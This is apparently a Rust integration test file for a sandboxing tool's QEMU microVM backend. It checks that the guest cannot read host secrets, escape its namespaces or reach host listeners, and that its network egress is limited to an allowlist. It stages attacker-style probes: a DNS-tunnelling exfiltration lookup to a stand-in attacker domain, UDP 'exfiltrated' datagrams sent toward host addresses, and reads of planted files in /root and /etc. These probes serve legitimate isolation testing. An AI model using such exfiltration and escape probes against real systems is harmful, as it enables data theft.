//! The microVM backend (`--isolation vm`) through the real command: a
//! real QEMU booting a real guest kernel (under software emulation on a
//! host whose KVM cannot boot it), attacked as the process backend is.
//!
//! Each boot costs seconds under emulation, so the default suite runs the
//! refusals (no boot) and one boot that checks the most; the rest are
//! `#[ignore]`d and run by `.ci/run` with `-- --ignored` under a time
//! limit. Every test that boots skips, saying why, when the host has no
//! QEMU or no guest kernel (see `warden vm kernel`).

use crate::common;
use crate::common::tcp::Upstream;
use crate::common::vm::*;
use crate::common::*;
use std::io::Read;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

#[test]
fn a_vm_sandbox_runs_its_own_kernel_sees_no_host_secret_and_writes_the_workspace() {
    let Some(release) = guest_release() else {
        return;
    };
    if release == host_release() {
        skip("the guest kernel is the host's own release: the test could not tell them apart");
        return;
    }
    let state = TempDir::new("vm-one");
    let ws = TempDir::new("vm-ws");
    let secret = unique("vm-secret-value");
    // Root's home and /etc: the host's secrets live there.
    let planted: Vec<Planted> = ["/root", "/etc", "/tmp"]
        .iter()
        .filter_map(|d| plant(d, &secret))
        .collect();
    assert!(!planted.is_empty(), "could not plant a single file");
    let mut script = String::from("uname -r; cat /proc/version; ");
    for p in &planted {
        script.push_str(&format!("cat {} 2>/dev/null; ", p.0.display()));
    }
    script.push_str(
        "touch /usr/warden-vm-write 2>/dev/null && echo USR-WRITABLE; \
         echo x > /etc/warden-vm-write 2>/dev/null && echo ETC-WRITABLE; \
         echo warden-probe > /proc/self/comm 2>/dev/null && echo COMM-WRITABLE; \
         ls /dev | grep -q vport && echo PORT-VISIBLE; \
         grep -v lo: /proc/net/dev | grep -q : && echo NIC-PRESENT; \
         unshare -U true 2>/dev/null && echo UNSHARE-WORKED; \
         echo written-in-guest > /workspace/out.txt; exit 3",
    );
    let started = Instant::now();
    let o = vm_sh(state.path(), &["--no-tty", "-w", ws.str()], &script, &[]);
    eprintln!("boot and run took {:?}", started.elapsed());
    let out = stdout(&o);
    assert_eq!(code(&o), 3, "stdout: {out}\nstderr: {}", stderr(&o));
    let first = out.lines().next().unwrap_or_default();
    assert_eq!(first, release, "uname -r in the guest: {out}");
    assert_ne!(first, host_release());
    assert!(out.contains(&format!("Linux version {release}")), "{out}");
    assert!(
        !out.contains(&secret),
        "a planted host file was read: {out}"
    );
    assert!(
        !out.contains("USR-WRITABLE"),
        "the host's /usr was writable"
    );
    assert!(!Path::new("/usr/warden-vm-write").exists());
    // Each probe the weakened guest passes (see
    // `the_guest_checks_fail_when_the_guest_init_is_weakened`) fails here:
    // its own `comm` is the process's to write by its permissions, so
    // only Landlock refuses it.
    for probe in [
        "ETC-WRITABLE",
        "COMM-WRITABLE",
        "UNSHARE-WORKED",
        "PORT-VISIBLE",
    ] {
        assert!(!out.contains(probe), "{probe}: {out}");
    }
    // No egress asked: no network device at all.
    assert!(!out.contains("NIC-PRESENT"), "{out}");
    assert_eq!(
        std::fs::read_to_string(ws.path().join("out.txt")).unwrap(),
        "written-in-guest\n"
    );
}

#[test]
fn an_unknown_isolation_is_refused_before_anything_boots() {
    let state = TempDir::new("vm-refuse");
    let ws = TempDir::new("vm-refuse-ws");
    // (The shipped desktop profile, once refused here, runs in a VM:
    // tests/suite/vm_desktop.rs.)
    let all = vec![
        "run",
        "--no-tty",
        "-w",
        ws.str(),
        "--isolation",
        "vmm",
        "--",
        "true",
    ];
    refused_before_boot(state.path(), &all, &["not an isolation"]);
}

/// Run `all` and check that it is refused (125) with each of `says` in
/// its message, in less time than a boot takes.
fn refused_before_boot(state: &Path, all: &[&str], says: &[&str]) {
    let started = Instant::now();
    let o = vm_warden(state, all, None);
    assert_eq!(code(&o), 125, "{all:?}: {}", stderr(&o));
    for s in says {
        assert!(stderr(&o).contains(s), "{all:?}: {}", stderr(&o));
    }
    assert!(
        started.elapsed() < Duration::from_secs(10),
        "{all:?}: the guest booted first"
    );
}

/// The audit log opens with the run's first record; a VM run whose log
/// cannot be opened must stop before the guest boots, as a process run
/// stops before its command starts.
#[test]
fn a_vm_run_whose_audit_log_cannot_be_opened_boots_nothing() {
    if guest_release().is_none() {
        return;
    }
    let state = TempDir::new("vm-unrecorded");
    let ws = TempDir::new("vm-unrecorded-ws");
    let log = ws.path().join("no-such-dir").join("run.jsonl");
    let all = vec![
        "run",
        "--no-tty",
        "-w",
        ws.str(),
        "--isolation",
        "vm",
        "--audit-log",
        log.to_str().unwrap(),
        "--",
        "true",
    ];
    refused_before_boot(
        state.path(),
        &all,
        &["nothing was started", "cannot open audit log"],
    );
}

#[test]
#[ignore = "boots a VM (slow under emulation): run with -- --ignored"]
fn a_vm_sandbox_past_its_timeout_is_killed_with_its_vmm() {
    let Some(_) = guest_release() else {
        return;
    };
    let state = TempDir::new("vm-timeout");
    let ws = TempDir::new("vm-timeout-ws");
    let o = vm_warden(
        state.path(),
        &[
            "run",
            "--isolation",
            "vm",
            "--no-tty",
            "--timeout",
            "3s",
            "-w",
            ws.str(),
            "--",
            "sleep",
            "600",
        ],
        None,
    );
    assert_eq!(code(&o), 124, "{}", stderr(&o));
    assert!(stderr(&o).contains("--timeout"), "{}", stderr(&o));
    // The VMM (whose command line names the workspace) is gone with it.
    assert!(
        pids_with_marker(ws.str()).is_empty(),
        "a VMM outlived its sandbox"
    );
}

/// Python for the guest: a real TLS ClientHello (OpenSSL's) for a name,
/// and a connection that sends bytes and returns what came back.
const PY_HELLO: &str = r#"import socket, ssl, sys
def hello(name):
    ctx = ssl.create_default_context(); i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
    t = ctx.wrap_bio(i, o, server_hostname=name)
    try: t.do_handshake()
    except ssl.SSLWantReadError: pass
    return o.read()
def send(addr, data):
    try:
        s = socket.create_connection(addr, timeout=10); s.settimeout(10); s.sendall(data)
        return s.recv(200)
    except OSError as e:
        return ('error', e.errno)
def lookup(name):
    try: return socket.gethostbyname(name)
    except OSError as e: return 'nx'
"#;

/// The host's own address on its default route (no packet is sent), when
/// it has one.
fn host_address() -> Option<std::net::IpAddr> {
    let u = std::net::UdpSocket::bind("0.0.0.0:0").ok()?;
    u.connect("192.0.2.1:9").ok()?;
    Some(u.local_addr().ok()?.ip()).filter(|ip| !ip.is_unspecified())
}

#[test]
#[ignore = "boots a VM (slow under emulation): run with -- --ignored"]
fn a_vm_guest_reaches_an_allowed_name_and_a_denied_one_reaches_nothing() {
    let Some(_) = guest_release() else {
        return;
    };
    let up = Upstream::start(b"hello from upstream");
    let port = up.port;
    let state = TempDir::new("vm-egress");
    let ws = TempDir::new("vm-egress-ws");
    let ev = state.path().join("ev.jsonl");
    // The guest asks for the allowed name, then sends a ClientHello for a
    // denied name to the very same address, and looks up an unlisted name
    // (DNS tunnelling: the label carries the data).
    let script = format!(
        "{PY_HELLO}ip = lookup('allowed.test')\nprint('ip', ip)\n\
print('by-name', send((ip, {port}), hello('allowed.test')))\n\
print('denied', send((ip, {port}), hello('denied.test')))\n\
print('tunnel', lookup('c2VjcmV0.exfil.attacker.test'))\n"
    );
    let o = vm_warden(
        state.path(),
        &[
            "run",
            "--isolation",
            "vm",
            "--no-tty",
            "--allow-domain",
            &format!("allowed.test:{port}"),
            "--add-host",
            "allowed.test=127.0.0.1",
            "--json-events",
            ev.to_str().unwrap(),
            "-w",
            ws.str(),
            "--",
            "python3",
            "-c",
            &script,
        ],
        None,
    );
    let out = stdout(&o);
    assert_eq!(code(&o), 0, "{out}\n{}", stderr(&o));
    assert!(
        out.contains("by-name b'hello from upstream'"),
        "{out}\n{}",
        stderr(&o)
    );
    assert!(out.contains("denied b''"), "{out}");
    assert!(out.contains("tunnel nx"), "{out}");
    let seen = up.connections();
    assert_eq!(seen.len(), 1, "the upstream saw {} connections", seen.len());
    assert_eq!(seen[0][0], 22, "the upstream did not get the ClientHello");
    assert!(
        stderr(&o).contains("egress denied: tls denied.test"),
        "{}",
        stderr(&o)
    );
    // The decision log shows the guest's connections as a process
    // sandbox's: one allowed and one denied TLS connection, the lookups.
    let evs = events(&ev);
    let conns: Vec<_> = evs.iter().filter(|e| e["event"] == "connection").collect();
    let has = |proto: &str, name: &str, allowed: bool| {
        conns
            .iter()
            .any(|e| e["protocol"] == proto && e["name"] == name && e["allowed"] == allowed)
    };
    assert!(has("tls", "allowed.test", true), "{conns:?}");
    assert!(has("tls", "denied.test", false), "{conns:?}");
    assert!(has("dns", "allowed.test", true), "{conns:?}");
    // (The log names it as the resolver normalizes it: lower case.)
    assert!(
        has("dns", "c2vjcmv0.exfil.attacker.test", false),
        "{conns:?}"
    );
}

#[test]
#[ignore = "boots a VM (slow under emulation): run with -- --ignored"]
fn a_vm_guest_has_no_route_to_a_host_listener() {
    let Some(_) = guest_release() else {
        return;
    };
    // Listeners on the host's loopback and on every address, each
    // recording whether anything ever arrives, and an attacker's name
    // server on the host's loopback.
    let local = Upstream::start(b"host loopback service");
    // And the one the guest may reach, by its name: proof that the guest
    // has a network, so that what does not arrive was stopped.
    let allowed = Upstream::start(b"allowed upstream");
    let any = Upstream::on("0.0.0.0:0", b"host service");
    let (lp, ap) = (local.port, any.port);
    let attacker = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
    attacker
        .set_read_timeout(Some(Duration::from_millis(300)))
        .unwrap();
    let dp = attacker.local_addr().unwrap().port();
    let mut targets = vec![
        ("127.0.0.1".to_string(), lp),
        ("127.0.0.1".to_string(), ap),
        ("10.0.2.2".to_string(), ap),
        ("192.168.0.1".to_string(), ap),
    ];
    match host_address() {
        Some(ip) => targets.push((ip.to_string(), ap)),
        None => eprintln!("the host has no default route: its own address is not tried"),
    }
    let mut script = format!("{PY_HELLO}u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n");
    for (h, p) in &targets {
        script.push_str(&format!(
            "print('raw', '{h}', {p}, send(('{h}', {p}), b'GET / HTTP/1.0\\r\\n\\r\\n'))\n\
print('tls', '{h}', {p}, send(('{h}', {p}), hello('{h}')))\n\
try: u.sendto(b'exfiltrated', ('{h}', {dp}))\nexcept OSError: pass\n"
        ));
    }
    script.push_str(&format!(
        "print('allowed', send((lookup('allowed.test'), {}), hello('allowed.test')))\nprint('done')\n",
        allowed.port
    ));
    let state = TempDir::new("vm-net");
    let ws = TempDir::new("vm-net-ws");
    let o = vm_warden(
        state.path(),
        &[
            "run",
            "--isolation",
            "vm",
            "--no-tty",
            "--allow-domain",
            "localhost",
            "--allow-domain",
            &format!("allowed.test:{}", allowed.port),
            "--add-host",
            "allowed.test=127.0.0.1",
            "-w",
            ws.str(),
            "--",
            "python3",
            "-c",
            &script,
        ],
        None,
    );
    let out = stdout(&o);
    assert_eq!(code(&o), 0, "{out}\n{}", stderr(&o));
    assert!(out.contains("done"), "{out}\n{}", stderr(&o));
    assert!(out.contains("allowed b'allowed upstream'"), "{out}");
    assert_eq!(allowed.connections().len(), 1);
    assert!(!out.contains("service"), "{out}");
    assert!(
        local.connections().is_empty() && any.connections().is_empty(),
        "a connection reached the host: {:?} {:?}",
        local.connections(),
        any.connections()
    );
    let mut buf = [0u8; 64];
    assert!(
        attacker.recv_from(&mut buf).is_err(),
        "a datagram reached the host"
    );
}

#[test]
#[ignore = "boots a VM (slow under emulation): run with -- --ignored"]
fn exec_into_a_created_vm_sandbox_runs_two_commands_at_once() {
    let Some(release) = guest_release() else {
        return;
    };
    let state = TempDir::new("vm-exec");
    ok(&vm_warden(
        state.path(),
        &["create", "--isolation", "vm", "box"],
        None,
    ));
    ok(&vm_warden(state.path(), &["start", "box"], None));
    let _stop = VmStopper(state.path(), "box");
    let got = ok(&vm_warden(
        state.path(),
        &["exec", "box", "--", "uname", "-r"],
        None,
    ));
    assert_eq!(got.trim(), release);
    // Exit codes and stdin pass through.
    let o = vm_warden(
        state.path(),
        &["exec", "box", "--", "sh", "-c", "exit 5"],
        None,
    );
    assert_eq!(code(&o), 5);
    let o = vm_warden(
        state.path(),
        &["exec", "box", "--", "sh", "-c", "tr a-z A-Z"],
        Some(b"through the vm\n"),
    );
    assert_eq!(stdout(&o), "THROUGH THE VM\n");
    // Two execs at once: together they take about as long as one.
    let started = Instant::now();
    let spawn = |tag: &str| {
        let mut c = Command::new(warden_bin());
        c.args([
            "exec",
            "box",
            "--",
            "sh",
            "-c",
            &format!("sleep 3; echo {tag}"),
        ])
        .env("WARDEN_STATE_DIR", state.path().join("warden"))
        .env("WARDEN_VM_DIR", vm_dir())
        .stdin(Stdio::null())
        .stdout(Stdio::piped());
        c.spawn().unwrap()
    };
    let (mut a, mut b) = (spawn("first"), spawn("second"));
    let mut out_a = String::new();
    let mut out_b = String::new();
    a.stdout.take().unwrap().read_to_string(&mut out_a).unwrap();
    b.stdout.take().unwrap().read_to_string(&mut out_b).unwrap();
    assert!(a.wait().unwrap().success() && b.wait().unwrap().success());
    assert_eq!((out_a.trim(), out_b.trim()), ("first", "second"));
    assert!(
        started.elapsed() < Duration::from_secs(6),
        "the execs ran one after the other: {:?}",
        started.elapsed()
    );
    // A file written by one exec persists in the sandbox's workspace layer.
    ok(&vm_warden(
        state.path(),
        &[
            "exec",
            "box",
            "--",
            "sh",
            "-c",
            "echo kept > /workspace/kept.txt",
        ],
        None,
    ));
    let diff = vm_warden(state.path(), &["diff", "box"], None);
    assert!(stdout(&diff).contains("kept.txt"), "{}", stdout(&diff));
    // The VMM serves the sandbox's layer (its command line names it):
    // after the stop, no VMM is left.
    let layer = state.path().join("warden/sandboxes/box/upper");
    let (fsd, vmm): (Vec<i32>, Vec<i32>) = pids_with_marker(layer.to_str().unwrap())
        .into_iter()
        .partition(|p| is_virtiofsd(*p));
    assert!(!vmm.is_empty());
    let owner = {
        use std::os::unix::fs::MetadataExt;
        std::fs::metadata(&layer).unwrap().uid()
    };
    check_vmm_confined(vmm[0], Some(owner));
    if let Some(fsd) = fsd.first() {
        check_fsd_confined(*fsd, owner);
    }
    ok(&vm_warden(state.path(), &["stop", "box"], None));
    wait_until("the VMM to end", Duration::from_secs(10), || {
        pids_with_marker(layer.to_str().unwrap()).is_empty()
    });
}

/// Whether `pid` is a virtiofsd (which names the workspace it serves too).
fn is_virtiofsd(pid: i32) -> bool {
    std::fs::read(format!("/proc/{pid}/cmdline"))
        .map(|c| String::from_utf8_lossy(&c).contains("virtiofsd"))
        .unwrap_or(false)
}

/// What the workspace's virtiofsd runs under: a user namespace that is
/// not the host's, the workspace owner's IDs, `no_new_privs`, its seccomp
/// filter and warden's, and a bounding set holding only the capabilities
/// it serves files with (which act inside its namespace only).
fn check_fsd_confined(pid: i32, owner: u32) {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let field = |name: &str| -> String {
        status
            .lines()
            .find_map(|l| l.strip_prefix(&format!("{name}:")))
            .unwrap_or_default()
            .trim()
            .to_string()
    };
    eprintln!(
        "virtiofsd: Uid {} CapEff {} CapBnd {} NoNewPrivs {} Seccomp_filters {}",
        field("Uid"),
        field("CapEff"),
        field("CapBnd"),
        field("NoNewPrivs"),
        field("Seccomp_filters")
    );
    let userns = |p: &str| std::fs::read_link(format!("/proc/{p}/ns/user")).unwrap();
    assert_ne!(
        userns(&pid.to_string()),
        userns("self"),
        "virtiofsd runs in the host's user namespace"
    );
    assert_eq!(field("NoNewPrivs"), "1");
    assert_eq!(field("Seccomp"), "2");
    assert!(field("Seccomp_filters").parse::<u32>().unwrap() >= 2);
    let bnd = u64::from_str_radix(&field("CapBnd"), 16).unwrap();
    let kept: u64 = [0u32, 1, 3, 4, 6, 7, 8, 18, 27, 31]
        .iter()
        .fold(0, |m, c| m | (1 << c));
    assert_eq!(
        bnd & !kept,
        0,
        "virtiofsd's bounding set {bnd:x} holds more"
    );
    if is_root() {
        // The owner's IDs where they are an ordinary account's; nobody's
        // for root or a system account (warden_jail::identity), the
        // workspace then served through a view.
        let expected = warden_jail::identity::sandbox_ids(Some((owner, owner))).0;
        assert!(
            field("Uid")
                .split_whitespace()
                .all(|u| u == expected.to_string()),
            "virtiofsd runs as {}, not as {expected} (the workspace's owner is {owner})",
            field("Uid")
        );
    }
}

/// What the VMM runs under, read from its `/proc/PID/status`: QEMU's own
/// seccomp filter and warden's under it, `no_new_privs`, no capability in
/// any set (started by root too), and, started by root, the workspace
/// owner's IDs (`owner`) rather than root's.
fn check_vmm_confined(pid: i32, owner: Option<u32>) {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let field = |name: &str| {
        status
            .lines()
            .find_map(|l| l.strip_prefix(&format!("{name}:")))
            .map(str::trim)
            .unwrap_or_default()
            .to_string()
    };
    eprintln!(
        "the VMM: Uid {} CapEff {} CapBnd {} NoNewPrivs {} Seccomp {} Seccomp_filters {}",
        field("Uid"),
        field("CapEff"),
        field("CapBnd"),
        field("NoNewPrivs"),
        field("Seccomp"),
        field("Seccomp_filters")
    );
    assert_eq!(field("Seccomp"), "2", "QEMU runs without its filter");
    assert!(
        field("Seccomp_filters").parse::<u32>().unwrap_or(0) >= 2,
        "QEMU runs without warden's filter under its own"
    );
    assert_eq!(field("NoNewPrivs"), "1");
    // Its own PID and mount namespaces: it sees no other process and no
    // path of the host's but what it serves.
    for ns in ["pid", "mnt"] {
        let theirs = std::fs::read_link(format!("/proc/{pid}/ns/{ns}")).unwrap();
        let ours = std::fs::read_link(format!("/proc/self/ns/{ns}")).unwrap();
        assert_ne!(theirs, ours, "the VMM shares the host's {ns} namespace");
    }
    for set in ["CapEff", "CapPrm", "CapInh", "CapBnd", "CapAmb"] {
        let v = u64::from_str_radix(&field(set), 16).unwrap();
        assert_eq!(v, 0, "{set} {v:x}: the VMM keeps capabilities");
    }
    if let (true, Some(owner)) = (is_root(), owner) {
        // The owner's IDs where they are an ordinary account's; nobody's
        // for root or a system account (warden_jail::identity).
        let expected = warden_jail::identity::sandbox_ids(Some((owner, owner))).0;
        let uids: Vec<String> = field("Uid").split_whitespace().map(String::from).collect();
        assert!(
            uids.iter().all(|u| u == &expected.to_string()),
            "the VMM runs as {uids:?}, not as {expected} (the workspace's owner is {owner})"
        );
    }
}

#[test]
#[ignore = "boots a VM (slow under emulation): run with -- --ignored"]
fn a_vm_never_outlives_its_supervisor_killed_outright() {
    let Some(_) = guest_release() else {
        return;
    };
    let state = TempDir::new("vm-orphan");
    ok(&vm_warden(
        state.path(),
        &["create", "--isolation", "vm", "orphan"],
        None,
    ));
    ok(&vm_warden(state.path(), &["start", "orphan"], None));
    let _stop = VmStopper(state.path(), "orphan");
    let layer = state.path().join("warden/sandboxes/orphan/upper");
    let layer = layer.to_str().unwrap();
    assert!(!pids_with_marker(layer).is_empty(), "no VMM runs");
    // SIGKILL: the supervisor cannot clean anything up; its end of the
    // channel closes with it, and the guest must end (and QEMU with it).
    let sup = supervisor_pid(state.path(), "orphan");
    nix_kill(sup);
    wait_until("the VMM to end", Duration::from_secs(20), || {
        pids_with_marker(layer).is_empty()
    });
}

fn nix_kill(pid: i32) {
    // SAFETY: kill with a PID and a signal number; no memory is passed.
    unsafe {
        libc::kill(pid, libc::SIGKILL);
    }
}

#[test]
#[ignore = "boots a VM (slow under emulation): run with -- --ignored"]
fn the_daemon_serves_a_vm_sandbox_with_no_change_of_its_own() {
    use crate::common::daemon::{call, json, Daemon};
    let Some(release) = guest_release() else {
        return;
    };
    if !common::daemon::curl_available() {
        skip("curl is not installed");
        return;
    }
    let state = TempDir::new("vm-daemon");
    let vm = vm_dir();
    let d = Daemon::start_with(state.path(), false, &[], &[("WARDEN_VM_DIR", &vm)]);
    let (status, body) = call(
        &d,
        "POST",
        "/v1/sandboxes",
        Some(r#"{"name":"v1","spec":{"isolation":"vm"}}"#),
        None,
    );
    assert_eq!(status, 201, "{body}");
    let (status, body) = call(
        &d,
        "POST",
        "/v1/sandboxes/v1/exec",
        Some(r#"{"shell":"uname -r; exit 3"}"#),
        None,
    );
    assert_eq!(status, 200, "{body}");
    let v = json(&body);
    assert_eq!(v["exit_status"], 3, "{body}");
    assert_eq!(v["stdout"].as_str().unwrap().trim(), release);
    let (status, body) = call(&d, "DELETE", "/v1/sandboxes/v1", None, None);
    assert!(status < 300, "{status} {body}");
}

#[test]
#[ignore = "boots a VM (slow under emulation): run with -- --ignored"]
fn the_guest_checks_fail_when_the_guest_init_is_weakened() {
    // The probes of the first test must be able to fail: with Landlock and
    // seccomp switched off in the guest (a debug build's test switch), a
    // file the guest's process may write by its permissions but outside
    // Landlock's writable list (its own `/proc/self/comm`) is written, and
    // a new namespace can be made. (Its /etc is no such probe: the guest's
    // processes are never uid 0, so the permissions refuse it anyway.)
    if !cfg!(debug_assertions) {
        skip("the weakening switch exists only in debug builds");
        return;
    }
    let Some(_) = guest_release() else {
        return;
    };
    let state = TempDir::new("vm-weak");
    let ws = TempDir::new("vm-weak-ws");
    let o = vm_sh(
        state.path(),
        &["--no-tty", "-w", ws.str()],
        "id -u; echo warden-probe > /proc/self/comm 2>/dev/null && echo COMM-WRITABLE; \
             unshare -U true 2>/dev/null && echo UNSHARE-WORKED; true",
        &[("WARDEN_TEST_WEAKEN", "seccomp,landlock")],
    );
    let out = stdout(&o);
    assert_ne!(
        out.lines().next(),
        Some("0"),
        "the guest ran as root: {out}"
    );
    assert!(out.contains("COMM-WRITABLE"), "{out}\n{}", stderr(&o));
    assert!(out.contains("UNSHARE-WORKED"), "{out}\n{}", stderr(&o));
}

#[test]
#[ignore = "boots a VM (slow under emulation): run with -- --ignored"]
fn nobody_in_the_guest_can_use_dev_null() {
    // Without a workspace the guest's processes are nobody: the devices
    // they need must be theirs to write (mknod applies the umask).
    let Some(_) = guest_release() else {
        return;
    };
    let state = TempDir::new("vm-nobody");
    let o = vm_sh(
        state.path(),
        &["--no-tty"],
        "id -u; echo x > /dev/null && echo NULL-OK",
        &[],
    );
    let out = stdout(&o);
    assert!(out.starts_with("65534\n"), "{out}\n{}", stderr(&o));
    assert!(out.contains("NULL-OK"), "{out}\n{}", stderr(&o));
}

/// The guest kernel's modules the guest init loads (`warden_vm::image`'s
/// list), for a copy of the kernel an unprivileged user can read.
const GUEST_MODULES: &[&str] = &[
    "drivers/virtio/virtio_ring.ko",
    "drivers/virtio/virtio.ko",
    "drivers/virtio/virtio_mmio.ko",
    "drivers/char/virtio_console.ko",
    "net/9p/9pnet.ko",
    "net/9p/9pnet_virtio.ko",
    "fs/netfs/netfs.ko",
    "fs/fscache/fscache.ko",
    "fs/9p/9p.ko",
    "fs/fuse/fuse.ko",
    "fs/fuse/virtiofs.ko",
    "net/core/failover.ko",
    "drivers/net/net_failover.ko",
    "drivers/net/virtio_net.ko",
];

#[test]
#[ignore = "boots a VM (slow under emulation): run with -- --ignored"]
fn a_rootless_vm_guest_reaches_an_allowed_name_and_no_host_listener() {
    let Some(release) = guest_release() else {
        return;
    };
    let Some(who) = Unprivileged::get() else {
        skip("cannot get an unprivileged user to run warden as");
        return;
    };
    // The user's own VM directory, with a copy of the guest kernel and the
    // modules it needs (root's is not theirs to read), and the guest init
    // beside the user's copy of warden.
    let dir = TempDir::new("vm-rootless");
    let vm = dir.path().join("vm");
    let kernel = vm.join("kernel");
    let modules = kernel.join("lib/modules").join(&release);
    std::fs::create_dir_all(kernel.join("boot")).unwrap();
    let image = kernel.join(format!("boot/vmlinuz-{release}"));
    let from = vm_dir().join("kernel");
    std::fs::copy(from.join(format!("boot/vmlinuz-{release}")), &image).unwrap();
    for m in GUEST_MODULES {
        let src = from
            .join("lib/modules")
            .join(&release)
            .join("kernel")
            .join(m);
        if src.exists() {
            let dst = modules.join("kernel").join(m);
            std::fs::create_dir_all(dst.parent().unwrap()).unwrap();
            std::fs::copy(&src, &dst).unwrap();
        }
    }
    let init = who.bin.parent().unwrap().join("warden-guest-init");
    std::fs::copy(env!("CARGO_BIN_EXE_warden-guest-init"), &init).unwrap();
    let ws = dir.path().join("ws");
    std::fs::create_dir_all(&ws).unwrap();
    // A directory and a single file lent read-only: served rootless from
    // the descriptors opened and checked at the launch (the directory
    // reopened through it, the file bound into the VMM's root from its own
    // lookup, through no link, of that very file).
    let lent = dir.path().join("lent");
    std::fs::create_dir_all(&lent).unwrap();
    std::fs::write(lent.join("in"), "lent-dir").unwrap();
    let one = dir.path().join("one.conf");
    std::fs::write(&one, "lent-file").unwrap();
    let _ = Command::new("chown")
        .args(["-R", &format!("{}:{}", who.uid, who.gid)])
        .arg(dir.path())
        .status();
    let allowed = Upstream::start(b"hello rootless vm");
    let host = Upstream::start(b"host service");
    let script = format!(
        "{PY_HELLO}print('allowed', send((lookup('allowed.test'), {ap}), hello('allowed.test')))\n\
print('host', send(('127.0.0.1', {hp}), b'ping'))\n\
print('gateway', send(('10.0.2.2', {hp}), b'ping'))\n\
print('lent', open('{lent}/in').read(), open('{one}').read())\n",
        ap = allowed.port,
        hp = host.port,
        lent = lent.display(),
        one = one.display(),
    );
    let o = who
        .command(who.bin.to_str().unwrap())
        .args(["run", "--isolation", "vm", "--no-tty", "--allow-domain"])
        .arg(format!("allowed.test:{}", allowed.port))
        .args(["--add-host", "allowed.test=127.0.0.1", "--ro"])
        .arg(&lent)
        .arg("--ro")
        .arg(&one)
        .arg("-w")
        .arg(&ws)
        .args(["--", "python3", "-c", &script])
        .env("WARDEN_VM_DIR", &vm)
        .env("WARDEN_STATE_DIR", dir.path().join("state"))
        .output()
        .unwrap();
    let out = stdout(&o);
    assert_eq!(code(&o), 0, "{out}\n{}", stderr(&o));
    assert!(
        out.contains("allowed b'hello rootless vm'"),
        "{out}\n{}",
        stderr(&o)
    );
    assert!(
        out.contains("lent lent-dir lent-file"),
        "{out}\n{}",
        stderr(&o)
    );
    assert_eq!(allowed.connections().len(), 1);
    assert!(
        host.connections().is_empty(),
        "a connection reached the host: {out}"
    );
}

#[test]
#[ignore = "boots a VM (slow under emulation): run with -- --ignored"]
fn exec_with_a_terminal_into_a_vm_sandbox_runs_at_a_real_pseudo_terminal() {
    let Some(_) = guest_release() else {
        return;
    };
    let state = TempDir::new("vm-tty");
    ok(&vm_warden(
        state.path(),
        &["create", "--isolation", "vm", "ttybox"],
        None,
    ));
    ok(&vm_warden(state.path(), &["start", "ttybox"], None));
    let _stop = VmStopper(state.path(), "ttybox");
    // `warden exec -t` at a real pseudo-terminal the test holds the master
    // side of: the process must see a terminal of its own (tty, its size),
    // what is typed must reach it, and its exit status come back.
    let driver = r#"import os, pty, sys, time, select
pid, fd = pty.fork()
if pid == 0:
    os.execv(sys.argv[1], [sys.argv[1], 'exec', '-t', 'ttybox', '--', 'sh', '-c', 'tty; stty size; echo ready; read x; echo got-$x; exit 7'])
out = b''; sent = False; end = time.time() + 120
while time.time() < end:
    r, _, _ = select.select([fd], [], [], 0.5)
    if r:
        try: d = os.read(fd, 4096)
        except OSError: break
        if not d: break
        out += d
    if not sent and b'ready' in out:
        os.write(fd, b'hello\n'); sent = True
_, st = os.waitpid(pid, 0)
print(repr(out)); print('status', os.waitstatus_to_exitcode(st))
"#;
    let o = Command::new("python3")
        .args(["-c", driver, warden_bin().to_str().unwrap()])
        .env("WARDEN_STATE_DIR", state.path().join("warden"))
        .env("WARDEN_VM_DIR", vm_dir())
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let out = stdout(&o);
    assert!(out.contains("/dev/pts/"), "{out}\n{}", stderr(&o));
    assert!(out.contains("got-hello"), "{out}\n{}", stderr(&o));
    assert!(out.contains("status 7"), "{out}\n{}", stderr(&o));
}

/// The shipped profiles a VM sandbox runs (`desktop` is refused, see
/// above).
const VM_PROFILES: &[&str] = &[
    "base",
    "debugger",
    "desktop",
    "devops",
    "feature-dev",
    "researcher",
    "security",
];

/// Names that show each profile's own allowlist in the guest: one its
/// presets allow (beyond the base profile's LLM API) and one only another
/// profile's presets allow.
fn profile_names(name: &str) -> (&'static str, &'static str) {
    match name {
        "debugger" => ("o1.ingest.sentry.io", "export.arxiv.org"),
        "devops" => ("deb.debian.org", "export.arxiv.org"),
        "feature-dev" => ("registry.npmjs.org", "export.arxiv.org"),
        "researcher" => ("export.arxiv.org", "o1.ingest.sentry.io"),
        "security" => ("services.nvd.nist.gov", "export.arxiv.org"),
        _ => ("api.anthropic.com", "export.arxiv.org"),
    }
}

/// Inside the guest: the profile's environment, the system's trust roots,
/// and its allowlist through the sandbox's resolver (the base profile's
/// LLM API and the profile's own name resolve; another profile's name
/// and an unlisted one do not).
fn profile_probe(name: &str) -> String {
    let (own, foreign) = profile_names(name);
    format!(
        r#"echo "editor=$EDITOR"
test -s /etc/ssl/certs/ca-certificates.crt && echo trust-roots
python3 -c "
import socket
def look(n):
    try: return socket.gethostbyname(n)
    except OSError: return 'nx'
print('allowed', look('api.anthropic.com')); print('unlisted', look('unlisted.example.test'))
print('own', look('{own}')); print('foreign', look('{foreign}'))"
exit 7"#
    )
}

fn check_profile_probe(name: &str, out: &str) {
    let editor = if name == "feature-dev" { "vi" } else { "" };
    assert!(out.contains(&format!("editor={editor}\n")), "{name}: {out}");
    assert!(out.contains("trust-roots"), "{name}: no trust roots: {out}");
    assert!(out.contains("unlisted nx"), "{name}: {out}");
    assert!(!out.contains("allowed nx"), "{name}: {out}");
    assert!(out.contains("own "), "{name}: {out}");
    assert!(
        !out.contains("own nx"),
        "{name}: its own preset's name: {out}"
    );
    assert!(
        out.contains("foreign nx"),
        "{name}: another profile's name: {out}"
    );
}

#[test]
fn every_shipped_profile_goes_as_far_as_the_vmm() {
    // No boot: a VMM that exits at once. A profile the VM backend refused
    // would stop before it (exit 125, "not supported with --isolation vm").
    let Some(_) = guest_release() else {
        return;
    };
    let state = TempDir::new("vm-profiles-accepted");
    let ws = TempDir::new("vm-profiles-accepted-ws");
    for name in VM_PROFILES {
        if *name == "desktop" {
            if let Some(why) = common::desktop::unavailable() {
                skip(&format!("the desktop profile: {why}"));
                continue;
            }
        }
        let o = vm_warden_env(
